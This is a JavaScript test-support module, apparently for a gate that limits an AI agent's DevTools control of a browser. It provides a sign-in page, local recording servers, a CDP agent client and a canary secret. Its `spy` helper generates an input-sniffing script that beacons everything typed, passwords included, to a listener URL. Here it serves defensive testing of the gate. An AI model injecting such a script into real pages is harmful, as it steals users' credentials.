// An agent of a few lines, and sites of one function, for what an agent may try at the gate.

import { once } from "node:events";
import { createServer } from "node:http";
import { test } from "node:test";
import { setTimeout as pause } from "node:timers/promises";
import { Cdp, canary, Gate } from "./gate.mjs";

/** A sign-in of one step. */
export const SIGN_IN = `<!doctype html><title>Sign in</title><form method=post action=/signin>
<input id=user name=user><input id=password name=password type=password><button id=go>Go</button></form>`;

/** A server of one function, which keeps what it was asked. */
export class Server {
  asked = [];

  static async start(answer) {
    const server = new Server();
    server.http = createServer(async (request, response) => {
      let body = "";
      for await (const chunk of request) body += chunk;
      const { method, url, headers } = request;
      const asked = { method, url, headers, body };
      server.asked.push(asked);
      await answer(asked, response);
    });
    server.http.listen(0, "127.0.0.1");
    await once(server.http, "listening");
    server.port = server.http.address().port;
    server.url = `http://127.0.0.1:${server.port}`;
    return server;
  }

  /** What was asked for with `secret` in it. */
  heard(secret) {
    return this.asked.filter(({ url, body }) => `${url}${body}`.includes(secret)).map((a) => a.url);
  }

  stop() {
    this.http.closeAllConnections();
    this.http.close();
  }
}

export function html(response, text, headers = {}) {
  response.writeHead(200, { "content-type": "text/html", ...headers }).end(text);
}

/** A script that tells `listener` whatever is typed into its document, or the one that `where` names. */
export const spy = (listener, where = "window") =>
  `${where}.addEventListener("input", (e) => { new Image().src = "${listener.url}/heard?" + encodeURIComponent(e.target.value); }, true);`;

/** What `look` gives, once it gives something. */
export async function eventually(look, what, ms = 15_000) {
  for (const until = Date.now() + ms; Date.now() < until; await pause(50)) {
    const found = await look();
    if (found) return found;
  }
  throw new Error(`not in time: ${what}`);
}

/** A CDP client of the gate's. */
export class Agent {
  static async join(gate) {
    const agent = new Agent();
    agent.cdp = await Cdp.open(gate.ws);
    return agent;
  }

  /** A page of its own, loaded. */
  async open(url, more = {}) {
    const { targetId } = await this.cdp.call("Target.createTarget", { url, ...more });
    const session = await this.attach(targetId);
    await eventually(
      () =>
        this.run(
          `document.readyState === "complete" && (location.href !== "about:blank" || ${url === "about:blank"})`,
          session,
        ).catch(() => false),
      url,
    );
    return { targetId, session };
  }

  async attach(targetId) {
    const attached = await this.cdp.call("Target.attachToTarget", { targetId, flatten: true });
    return attached.sessionId;
  }

  async targets() {
    return (await this.cdp.call("Target.getTargets", { filter: [{}] })).targetInfos;
  }

  target(match, what) {
    return eventually(async () => (await this.targets()).find(match), what);
  }

  run(expression, session) {
    return this.cdp.evaluate(expression, session);
  }

  /** What a command is refused with; an empty text if it is not. */
  async refusal(method, params, session) {
    const answer = await this.cdp.ask(method, params, session);
    return answer.error?.message ?? "";
  }

  /** The events of that name that have come. */
  events(method) {
    return this.cdp.heard.map((text) => JSON.parse(text)).filter((m) => m.method === method);
  }

  close() {
    this.cdp.close();
  }
}

/** A test with a gate, an agent, and servers that it starts with `serve`. */
export function withAgent(name, play, options = {}) {
  test(name, { timeout: 180_000 }, async () => {
    const servers = [];
    const serve = async (answer) => {
      servers.push(await Server.start(answer));
      return servers.at(-1);
    };
    const gate = await Gate.start(options);
    const agent = await Agent.join(gate);
    try {
      await play({ gate, agent, serve, secret: canary() });
    } catch (error) {
      console.error(gate.part.tail());
      throw error;
    } finally {
      agent.close();
      await gate.stop();
      for (const server of servers) server.stop();
    }
  });
}
